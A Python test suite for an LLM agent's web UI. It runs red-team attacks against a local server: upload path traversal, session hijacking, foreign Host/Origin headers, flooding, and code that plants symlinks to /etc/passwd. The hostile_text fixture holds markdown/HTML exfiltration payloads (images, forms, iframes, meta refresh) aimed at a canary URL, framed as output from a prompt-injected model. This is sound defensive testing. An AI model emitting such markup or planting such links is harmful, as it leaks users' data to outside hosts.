"""The web UI under attack: each attack of the red-team report, run against a real server on 127.0.0.1.

Raw HTTP and Gradio's own queue protocol for the routes (``GradioPage``: a hostile client speaks it
as well as the page does), the real browser for rendering (a canary server on another port records
any request the page makes: none may arrive). Each test checks the response, the host (nothing
copied, the disk does not grow, no process left) and that the legitimate user's session still works.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import psutil
import pytest

from glm_agent.tools import ToolRegistry, tool
from glm_agent.web import Login, ModelSource, Owner, SessionForbidden, UploadRefused, WebConfig, create_web_app
from glm_agent.web._door import CONTENT_SECURITY_POLICY, COOKIE, Door, folder_bytes
from tests._data import REPO, TOKENIZER, needs_shared
from tests._helpers import free_port, wait_gone, wait_http, wait_until
from tests.web_support import GradioPage, Router, browser, code_reply, get_weather, needs_browser, tool_reply, visible

pytestmark = [pytest.mark.kernel, pytest.mark.timeout(300)]

KiB, MiB = 1024, 1024 * 1024


class Canary:
    """An HTTP server on another port of 127.0.0.1 that records every request it gets (none should come)."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.hits = hits
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def hostile_text(canary: str) -> str:
    """What a prompt-injected model, a tool or the kernel might write to make the browser fetch or post."""
    return "\n\n".join(
        [
            f"![exfil]({canary}/md-image.png?secret=42)",
            f"![ref][r]\n\n[r]: {canary}/md-ref.png",
            f'<img src="{canary}/html-img.png">',
            f'<form action="{canary}/form" method="post"><input name="a" value="b"><button id="evil-submit">go</button></form>',
            f"<style>body {{ background: url({canary}/style.png) }}</style>",
            f'<link rel="stylesheet" href="{canary}/sheet.css">',
            f'<iframe src="{canary}/frame"></iframe>',
            f'<svg><image href="{canary}/svg.png"/></svg>',
            f'<video poster="{canary}/poster.png"></video>',
            f'<div style="background:url({canary}/inline.png)">styled</div>',
            f"<meta http-equiv=refresh content='0;url={canary}/meta'>",
            "${document.title = 'template ran'}",
        ]
    )


@tool
def echo_text(text: str) -> str:
    """Returns the text it was given.

    Args:
        text: Any text.
    """
    return text


PLANT = """
import os
os.symlink('/etc/passwd', '/mnt/data/passwd-link')
os.symlink('/etc', '/mnt/data/etc-link')
os.mkfifo('/mnt/data/fifo')
open('/mnt/data/ok.txt', 'w').write('fine')
open('/mnt/data/twice.txt', 'w').write('two names')
os.link('/mnt/data/twice.txt', '/mnt/data/twice-again.txt')
print('planted')
"""
FLOOD = "import sys\nfor i in range(20000):\n    sys.stdout.write('x' * 99 + '\\n')\n"


@pytest.fixture(scope="module")
def canary():
    server = Canary()
    yield server
    server.close()


@pytest.fixture(scope="module")
def ui(canary, tmp_path_factory):
    evil = hostile_text(canary.url)
    scripts = {
        "hostile": [evil + "\n\ndone: hostile"],
        "tool": [tool_reply("echo_text", f"text={evil!r}"), evil + "\n\ndone: tool"],
        "print": [code_reply(f"print({evil!r})\nprint(chr(96) * 3)\nprint({evil!r})"), "done: print"],
        "plant": [code_reply(PLANT), "planted"],
        "flood": [code_reply(FLOOD), "flooded"],
        "weather": [tool_reply("get_weather", "city='Paris'"), "It is 21."],
        "sleep": [code_reply("import time\nprint('sleeping', flush=True)\ntime.sleep(60)"), "slept"],
    }
    config = WebConfig(
        ModelSource(factory=Router(scripts).factory()),
        tools=ToolRegistry([get_weather, echo_text]),
        code_interpreter=True,
        pool_size=1,
        max_sessions=6,
        max_sessions_per_client=2,
        api_idle_timeout=600,
        max_upload_bytes=256 * KiB,
        max_session_bytes=512 * KiB,
        max_live_chars=100_000,
        code_timeout=90,
    )
    with pytest.MonkeyPatch.context() as patch:  # Gradio's upload folder and cache: this module's own
        patch.setenv("GRADIO_TEMP_DIR", str(tmp_path_factory.mktemp("gradio")))
        web = create_web_app(config)
        web.start()
        yield web
        web.close()


@pytest.fixture
def pages(ui):
    """Make GradioPages on the module's server; their sessions are closed after the test."""
    made: list[GradioPage] = []

    def make(**options: object) -> GradioPage:
        page = GradioPage(ui.url, **options)  # type: ignore[arg-type]
        made.append(page)
        return page

    yield make
    for page in made:
        page.close()
    for sid in ui.sessions.ids():
        ui.sessions.close(sid)


def session_of(ui, page: GradioPage):
    return wait_until(lambda: ui.sessions.get(page.session_hash), what="the session to open")


def texts(output: list) -> str:
    """What the chat shows of a send's last output (the chatbot is its first value)."""
    return "\n".join(visible(str(m.get("content", ""))) for m in output[0] if isinstance(m, dict))


# -- 1 and 5: uploads -------------------------------------------------------------------------------
def test_an_upload_event_naming_a_host_file_copies_nothing(ui, pages, tmp_path):
    secret = tmp_path / "host-secret.txt"
    secret.write_text("the host's secret")
    page = pages()
    page.load()
    before = sorted(Path(ui.door.upload_folder).rglob("*"))
    for path in ("/etc/passwd", str(secret), "../../etc/passwd", ui.door.upload_folder + "/../../etc/passwd"):
        assert page.join("upload", [[{"path": path, "meta": {"_type": "gradio.FileData"}}]]).status_code == 403
        with pytest.raises(UploadRefused, match="not a file this page uploaded"):  # and behind the door
            session_of(ui, page).add_upload(path)
    for hostile in (["/etc/passwd"] * 500, [{"nested": {"path": "/etc/passwd"}}], [{"path": "http://127.0.0.1:9/x"}]):
        files = [p if isinstance(p, dict) else {"path": p, "meta": {"_type": "gradio.FileData"}} for p in hostile]
        body = {"data": [files], "fn_index": page.fns["upload"], "session_hash": page.session_hash}
        assert page.http.post("/gradio_api/queue/join", json=body).status_code == 403  # before Gradio copies it
    assert sorted(Path(ui.door.upload_folder).rglob("*")) == before  # no copy in Gradio's cache either
    session = session_of(ui, page)
    assert session.uploads == [] and session.files.used() == 0
    # the legitimate upload still works, and its contents are what was uploaded
    [uploaded] = page.upload("data.csv", b"a,b\n1,2\n")
    out = page.attach([uploaded])
    assert session.uploads and session.uploads[0].read_bytes() == b"a,b\n1,2\n"
    assert not os.path.exists(uploaded)  # taken out of Gradio's folder, not copied
    assert "data.csv" in visible(str(out))


def test_an_upload_of_another_client_is_not_taken(ui, pages):
    victim, thief = pages(), pages()
    victim.load()
    thief.load()
    [path] = victim.upload("victim.txt", b"private")
    assert thief.join("upload", [[{"path": path, "meta": {"_type": "gradio.FileData"}}]]).status_code == 403
    with pytest.raises(UploadRefused):
        session_of(ui, thief).add_upload(path)
    assert session_of(ui, thief).uploads == []
    victim.attach([path])  # still the victim's to send
    assert [p.read_bytes() for p in session_of(ui, victim).uploads] == [b"private"]


def test_uploads_over_the_limits_are_refused_and_the_disk_does_not_grow(ui, pages):
    page = pages()
    page.load()
    before = folder_bytes(ui.door.upload_folder)
    big = page.http.post("/gradio_api/upload", files=[("files", ("big.bin", b"x" * (600 * KiB)))])
    assert big.status_code == 413  # more than the session may hold: refused while it streams
    over_file = page.http.post("/gradio_api/upload", files=[("files", ("big.bin", b"x" * (300 * KiB)))])
    assert over_file.status_code == 413  # one file over max_upload_bytes (Gradio's own limit, set by us)
    assert folder_bytes(ui.door.upload_folder) <= before
    # what fits per file but not per session: the session refuses the second one
    first = page.upload("a.bin", b"a" * (200 * KiB))
    second = page.upload("b.bin", b"b" * (200 * KiB))
    third = page.upload("c.bin", b"c" * (200 * KiB))
    out = page.attach(first + second + third)
    assert "does not fit" in visible(str(out))
    session = session_of(ui, page)
    assert len(session.uploads) == 2 and session.files.used() <= ui.sessions.config.max_session_bytes
    assert (
        texts(page.send("hello", mode="Code Interpreter")).count("Attached") == 2
    )  # the session still works, with what fitted


def test_uploads_need_the_page_and_its_origin(ui, pages):
    anonymous = httpx.post(f"{ui.url}/gradio_api/upload", files=[("files", ("a.txt", b"a"))])
    assert anonymous.status_code == 403  # no client cookie: the page was never loaded
    page = pages()
    for origin in ("http://evil.example", "http://localhost:9", "null"):
        reply = page.http.post("/gradio_api/upload", files=[("files", ("a.txt", b"a"))], headers={"Origin": origin})
        assert reply.status_code == 403, origin
    cross_site = {"Sec-Fetch-Site": "cross-site"}  # a browser's form post from another site sends no Origin
    assert (
        page.http.post("/gradio_api/upload", files=[("files", ("a.txt", b"a"))], headers=cross_site).status_code == 403
    )


# -- 2: links the code plants ----------------------------------------------------------------------
def test_links_fifos_and_hard_links_the_code_plants_never_leave(ui, pages):
    page = pages()
    page.load()
    out = page.send("plant", mode="Code Interpreter")
    assert "planted" in texts(out)
    session = session_of(ui, page)
    names = [f.name for f in session.workspace_files()]
    assert names == ["ok.txt"]  # no link, no FIFO, no file with two names
    token = session.token
    for name in ("passwd-link", "etc-link", "fifo", "twice.txt", "twice-again.txt", "..%2Fpasswd-link"):
        reply = page.http.get(f"/glm-agent/files/{token}/workspace/{name}")
        assert reply.status_code in (403, 404), (name, reply.status_code)
        assert "root:" not in reply.text
    ok = page.http.get(f"/glm-agent/files/{token}/workspace/ok.txt")
    assert ok.status_code == 200 and ok.text == "fine"
    assert "attachment" in ok.headers["content-disposition"]
    downloads = page.call(page.load_fn, [])[7]  # the page's download list, as a reload renders it
    assert "ok.txt" in str(downloads) and "passwd-link" not in str(downloads) and "fifo" not in str(downloads)


def test_an_image_replaced_by_a_link_is_not_copied_out(ui, pages, tmp_path):
    page = pages()
    page.load()
    page.send("plant", mode="Code Interpreter")
    session = session_of(ui, page)
    workspace = Path(session.interpreter.workspace)
    (workspace / "outputs").mkdir(exist_ok=True)
    link = workspace / "outputs" / "run009-1.png"
    link.symlink_to("/etc/passwd")
    assert session.files.copy_image(session.interpreter, link) is None
    assert not any("root:" in p.read_text(errors="replace") for p in (session.files.root / "exports").iterdir())


# -- 6: sessions belong to whoever opened them ---------------------------------------------------
def test_another_client_cannot_join_read_approve_stop_or_close_a_session(ui, pages):
    victim, attacker = pages(), pages()
    victim.load()
    victim_session = session_of(ui, victim)
    hijack = victim.session_hash
    assert attacker.join("send", ["weather", "Tools", True, "", 0.8, 0.8, 1024], session_hash=hijack).status_code == 403
    for fn in ("approve", "deny", "stop", "clear"):
        assert attacker.join(fn, [], session_hash=hijack).status_code == 403
    assert attacker.http.get("/gradio_api/queue/data", params={"session_hash": hijack}).status_code == 403
    assert attacker.http.get(f"/gradio_api/heartbeat/{hijack}").status_code == 403
    cancel = {"session_hash": hijack, "fn_index": attacker.fns["send"], "event_id": "x"}
    assert attacker.http.post("/gradio_api/cancel", json=cancel).status_code == 403
    token = victim_session.token
    assert attacker.http.get(f"/glm-agent/files/{token}/session/conversation.jsonl").status_code == 404
    # the victim's session is untouched and works
    assert ui.sessions.get(hijack) is victim_session and not victim_session.closed
    assert "It is 21." in texts(victim.send("weather", mode="Tools"))
    assert victim.http.get(f"/glm-agent/files/{token}/workspace/none.txt").status_code == 404


def test_a_request_naming_a_session_needs_the_client_cookie(ui, pages):
    page = pages()
    page.load()
    bare = httpx.Client(base_url=ui.url)
    try:
        body = {"data": [], "fn_index": page.fns["stop"], "session_hash": page.session_hash}
        assert bare.post("/gradio_api/queue/join", json=body).status_code == 403
        assert bare.get("/gradio_api/queue/data", params={"session_hash": page.session_hash}).status_code == 403
        assert bare.get(f"/gradio_api/heartbeat/{page.session_hash}").status_code == 403
    finally:
        bare.close()
    assert ui.sessions.get(page.session_hash) is not None


def test_api_sessions_are_their_own_and_short_lived(ui, pages):
    api = pages()  # Gradio's Python client: a cookie from /config, no page load
    api.send("hello")
    session = session_of(ui, api)
    assert not session.browser and ui.sessions._timeout(session) == ui.sessions.config.api_idle_timeout
    other = pages()
    other.send("hello")
    assert session_of(ui, other) is not session


def test_sessions_per_client_are_bounded(ui, pages):
    page = pages()
    hashes = [secrets.token_hex(6) for _ in range(3)]
    for session_hash in hashes[:2]:
        page.call(page.load_fn, [], session_hash=session_hash)
    out = page.call(page.load_fn, [], session_hash=hashes[2])
    assert "already has 2 sessions open" in visible(str(out))
    assert ui.sessions.get(hashes[2]) is None
    other = pages()  # another client still gets one
    other.load()
    assert ui.sessions.get(other.session_hash) is not None


# -- 7: Host and Origin ----------------------------------------------------------------------------
def test_foreign_hosts_and_origins_are_refused(ui, pages):
    page = pages()
    page.load()
    for host in ("evil.example", "evil.example:7860", "127.0.0.1.evil.example", "localhost@evil.example"):
        reply = page.http.get("/config", headers={"Host": host})
        assert reply.status_code == 421, host
    for origin in ("http://evil.example", "http://localhost:9", "null", f"{ui.url}.evil.example"):
        reply = page.http.get("/config", headers={"Origin": origin})
        assert reply.status_code == 403, origin
        assert "access-control-allow-origin" not in reply.headers
    same = page.http.get("/config", headers={"Origin": ui.url})
    assert same.status_code == 200 and "access-control-allow-origin" not in same.headers
    port = ui.url.rsplit(":", 1)[1]
    assert page.http.get("/config", headers={"Host": f"localhost:{port}"}).status_code == 200
    assert "Hello" in texts(page.send("hello"))


def test_only_the_routes_the_page_uses_are_served(ui, pages):
    page = pages()
    page.load()
    for path in (
        "/gradio_api/call/send",
        "/gradio_api/run/send",
        "/gradio_api/api/send",
        "/monitoring",
        f"/gradio_api/deep_link?session_hash={page.session_hash}",
        "/gradio_api/proxy=http://127.0.0.1/",
        "/gradio_api/stream/x/y/1/playlist.m3u8",
        "/gradio_api/vibe-code",
    ):
        method = "POST" if path.startswith(("/gradio_api/call", "/gradio_api/run", "/gradio_api/api")) else "GET"
        reply = page.http.request(method, path, json={"data": ["hi"]} if method == "POST" else None)
        assert reply.status_code == 404, (path, reply.status_code)
    assert page.http.get("/gradio_api/info").status_code == 200  # the Python client's schema stays


def test_the_responses_carry_a_content_security_policy(ui):
    reply = httpx.get(f"{ui.url}/")  # a first visit: no cookie yet
    assert reply.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    for directive in ("img-src 'self' data: blob:", "connect-src 'self'", "form-action 'self'"):
        assert directive in CONTENT_SECURITY_POLICY
    assert reply.headers["x-content-type-options"] == "nosniff"
    cookie = reply.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie


# -- 8: exhaustion ---------------------------------------------------------------------------------
def test_queue_joins_are_bounded_per_session_and_client_with_429(ui, pages):
    flooder, user = pages(), pages()
    flooder.load()
    user.load()
    statuses = [flooder.join("stop", []).status_code for _ in range(40)]  # never read: they pile up
    assert 429 in statuses and statuses.count(200) <= 8, statuses
    assert "Hello" in texts(user.send("hello"))  # the queue still works for others


def test_a_flooding_cell_sends_appended_text_with_a_cap(ui, pages):
    page = pages()
    page.load()
    out = page.send("flood", mode="Code Interpreter")
    assert "flooded" in texts(out)
    printed = 20_000 * 100
    # was 194 MiB for 2 MB printed (the whole card resent per chunk); now the live cap (100,000 characters)
    # once, the finished card's head and tail, and a little framing per update: ~0.2 MB
    assert page.bytes_read < printed // 5, page.bytes_read
    assert "live output stops after 100,000 characters" in str(out) or "characters not shown" in str(out)


def test_request_bodies_under_the_ui_are_bounded(ui, pages):
    page = pages()
    page.load()
    big = {"data": ["x" * (5 * MiB)], "fn_index": page.fns["send"], "session_hash": page.session_hash}
    assert page.http.post("/gradio_api/queue/join", json=big).status_code == 413
    assert "Hello" in texts(page.send("hello"))


# -- 4: rendering in the real browser --------------------------------------------------------------
@needs_browser
@pytest.mark.browser
@pytest.mark.slow
def test_nothing_the_model_a_tool_or_the_kernel_writes_makes_the_browser_fetch(ui, canary):
    outside: list[str] = []
    with browser() as chromium:
        context = chromium.new_context()
        context.on(
            "request", lambda r: outside.append(r.url) if not r.url.startswith((ui.url, "data:", "blob:")) else None
        )
        tab = context.new_page()
        tab.goto(ui.url)
        tab.locator("#input textarea").wait_for()
        for question in ("hostile", "tool", "print"):  # one conversation: Code Interpreter mode has the tools too
            tab.locator("#input textarea").fill(question)
            tab.locator("#send").click()
            tab.locator("#chat").get_by_text(f"done: {question}").wait_for(timeout=60_000)
            tab.wait_for_function("!document.querySelector('#send').disabled", timeout=60_000)
        for title in ("Tool: echo_text", "Code interpreter"):  # open the cards: their contents render too
            for card in tab.locator("#chat").get_by_text(title).all():
                card.click()
        tab.locator("#prompt").get_by_text("Prompt (ChatGLM3 turns)").first.click()
        tab.locator("#prompt-view").get_by_text("<|observation|>").first.wait_for()
        if tab.locator("#evil-submit").count():
            tab.locator("#evil-submit").first.click()
        chat = tab.locator("#chat")
        messages = chat.locator(".message-content")  # the messages (Gradio's own icons have <style> of their own)
        assert messages.count() > 5
        assert messages.locator("img, form, iframe, video, link, style, svg, meta, input").count() == 0
        assert (
            chat.locator(f'.message-content a[href="{canary.url}/md-image.png?secret=42"]').count() >= 1
        )  # a link now
        assert "```" in chat.inner_text()  # printed backticks are shown as text
        assert tab.title() != "template ran"
        assert canary.hits == [] and outside == [], (canary.hits, outside)
        context.request.get(f"{canary.url}/control")  # the canary does record what reaches it
        context.close()
    assert canary.hits == ["/control"]


# -- 6: logins ---------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def login_ui():
    config = WebConfig(ModelSource(factory=Router({}).factory()), max_sessions=6, api_idle_timeout=1.0)
    web = create_web_app(config, login=Login({"alice": "alice-pass", "bob": "bob-pass"}))
    web.start()
    yield web
    web.close()


def test_every_user_owns_their_sessions(login_ui):
    assert httpx.get(f"{login_ui.url}/config").status_code == 401  # nothing without a login
    alice = GradioPage(login_ui.url, login=("alice", "alice-pass"))
    bob = GradioPage(login_ui.url, login=("bob", "bob-pass"))
    try:
        alice.load()
        session = wait_until(lambda: login_ui.sessions.get(alice.session_hash))
        assert session.owner.user == "alice"
        assert bob.join("stop", [], session_hash=alice.session_hash).status_code == 403  # another browser
        # bob's login in alice's browser (her cookie): the session still answers only to alice
        bob.http.cookies.set(COOKIE, alice.http.cookies[COOKIE])
        assert bob.join("stop", [], session_hash=alice.session_hash).status_code == 403
        assert bob.http.get(f"/gradio_api/heartbeat/{alice.session_hash}").status_code == 403
        with pytest.raises(SessionForbidden):  # and behind the door, the session checks its owner itself
            login_ui.sessions.open(alice.session_hash, Owner(alice.http.cookies[COOKIE], "bob"))
        # without a login nothing that acts reaches Gradio (its heartbeat and cancel ask for none)
        anonymous = httpx.Client(base_url=login_ui.url, cookies={COOKIE: alice.http.cookies[COOKIE]})
        assert anonymous.get(f"/gradio_api/heartbeat/{alice.session_hash}").status_code == 401
        cancel = {"session_hash": alice.session_hash, "fn_index": 0, "event_id": "x"}
        assert anonymous.post("/gradio_api/cancel", json=cancel).status_code == 401
        anonymous.close()
        assert "Hello" in texts(alice.send("hello"))
    finally:
        alice.close()
        bob.close()


def test_api_sessions_end_after_their_short_idle_timeout(login_ui):
    api = GradioPage(login_ui.url, login=("bob", "bob-pass"))
    try:
        api.send("hello")  # no page load: an API session
        wait_until(lambda: login_ui.sessions.get(api.session_hash) is None, what="the idle API session to end")
        page = GradioPage(login_ui.url, login=("bob", "bob-pass"))
        page.load()  # a page's session stays for the (15 minute) idle timeout
        session = login_ui.sessions.get(page.session_hash)
        assert session is not None and session.browser
        page.close()
    finally:
        api.close()


def test_failed_logins_are_throttled_per_address():
    web = create_web_app(WebConfig(ModelSource(factory=Router({}).factory())), login=Login({"alice": "alice-pass"}))
    web.start()
    try:
        statuses = [
            httpx.post(f"{web.url}/login", data={"username": "alice", "password": f"guess-{i}"}).status_code
            for i in range(8)
        ]
        assert statuses[:5] == [400] * 5 and set(statuses[5:]) == {429}, statuses
        throttled = httpx.post(f"{web.url}/login", data={"username": "alice", "password": "alice-pass"})
        assert throttled.status_code == 429 and int(throttled.headers["retry-after"]) > 0
    finally:
        web.close()


# -- 3 and 9: the commands, SIGTERM ------------------------------------------------------------------
def _temp_dirs(root: Path) -> list[str]:
    return sorted(p.name for p in root.iterdir() if p.name.startswith("glm-agent-web"))


@pytest.fixture
def short_tmp():
    """A temporary folder with a short path (kernels' ZMQ socket paths must stay under 108 bytes)."""
    path = Path(tempfile.mkdtemp(prefix="gw", dir="/tmp"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _start(command: list[str], root: Path) -> subprocess.Popen[bytes]:
    (root / "tmp").mkdir()
    env = {**os.environ, "TMPDIR": str(root / "tmp"), "GRADIO_TEMP_DIR": str(root / "gradio"), "PYTHONPATH": str(REPO)}
    return subprocess.Popen(
        [sys.executable, "-m", "glm_agent.cli", *command], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
    )


@contextmanager
def _served(command: list[str], root: Path) -> Iterator[subprocess.Popen[bytes]]:
    """``glm-agent COMMAND`` with its temporary folders under ``root``; killed if the test leaves it running."""
    process = _start(command, root)
    try:
        yield process
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()


def _sigterm_and_check(process: subprocess.Popen[bytes], root: Path) -> None:
    children = [p.pid for p in psutil.Process(process.pid).children(recursive=True)]
    assert children, "the server started no kernel"
    process.send_signal(signal.SIGTERM)
    assert process.wait(60) == 128 + signal.SIGTERM
    assert wait_gone(children) == [], "kernels left behind"
    assert _temp_dirs(root / "tmp") == [], "session folders left behind"
    leftovers = [p for p in (root / "gradio").rglob("*") if p.is_file()]
    assert leftovers == [], leftovers


@pytest.mark.slow
def test_sigterm_ends_glm_agent_web_like_ctrl_c(tmp_path, short_tmp):
    script = tmp_path / "script.json"
    script.write_text(json.dumps([code_reply("print('kernel up')"), "ran"]))
    port = free_port()
    command = ["web", "--model", f"scripted:{script}", "--code-interpreter", "--port", str(port), "--pool-size", "1"]
    with _served(command, short_tmp) as process:
        wait_http(f"http://127.0.0.1:{port}/config", process)
        page = GradioPage(f"http://127.0.0.1:{port}")
        page.load()
        page.attach(page.upload("sent.csv", b"a\n1\n"))
        page.upload("left.csv", b"b\n2\n")  # uploaded, never attached
        assert "ran" in texts(page.send("go", mode="Code Interpreter"))
        assert _temp_dirs(short_tmp / "tmp")
        page.close()
        _sigterm_and_check(process, short_tmp)


@needs_shared
@pytest.mark.slow
def test_serve_ui_with_an_api_key_asks_for_it_and_sigterm_cleans_up(tmp_path, short_tmp):
    script = tmp_path / "script.json"
    script.write_text(json.dumps([code_reply("print('kernel up')"), "ran", "more", "more"]))
    port = free_port()
    key = "sk-test-key"
    command = [
        "serve", "--model", f"scripted:{script}", "--tokenizer", str(TOKENIZER), "--port", str(port),
        "--api-key", key, "--ui", "--code-interpreter", "--pool-size", "1",
    ]  # fmt: skip
    base = f"http://127.0.0.1:{port}"
    with _served(command, short_tmp) as process:
        wait_http(f"{base}/health", process)
        assert httpx.get(f"{base}/v1/models").status_code == 401
        assert httpx.get(f"{base}/ui/config").status_code == 401  # the UI runs code: not without the key
        assert httpx.post(f"{base}/ui/login", data={"username": "me", "password": "wrong"}).status_code == 400
        page = GradioPage(f"{base}/ui", login=("anyone", key))
        page.load()
        big = {"data": ["x" * (5 * MiB)], "fn_index": page.fns["send"], "session_hash": page.session_hash}
        assert page.http.post("/gradio_api/queue/join", json=big).status_code == 413  # the request limit holds
        assert page.http.get("/config", headers={"Host": "evil.example"}).status_code == 421
        assert "ran" in texts(page.send("go", mode="Code Interpreter"))
        page.close()
        _sigterm_and_check(process, short_tmp)


def test_a_flood_of_session_hashes_cannot_push_out_another_clients_binding():
    door = Door(prefix="", hosts=frozenset({"127.0.0.1"}), bindings_per_client=4, max_bindings=12)
    assert door.bind("victim-session", "victim") is True
    for i in range(50):  # the attacker's own oldest bindings go; nobody else's
        assert door.bind(f"attacker-{i}", "attacker") is True
    assert door.bind("victim-session", "attacker") is False
    assert door.bind("victim-session", "victim") is True
    for i in range(20):
        door.bind(f"crowd-{i}", f"client-{i}")
    assert door.bind("one-too-many", "latecomer") is None  # full: refused, not evicting
    assert door.owner_of("victim-session") == "victim"
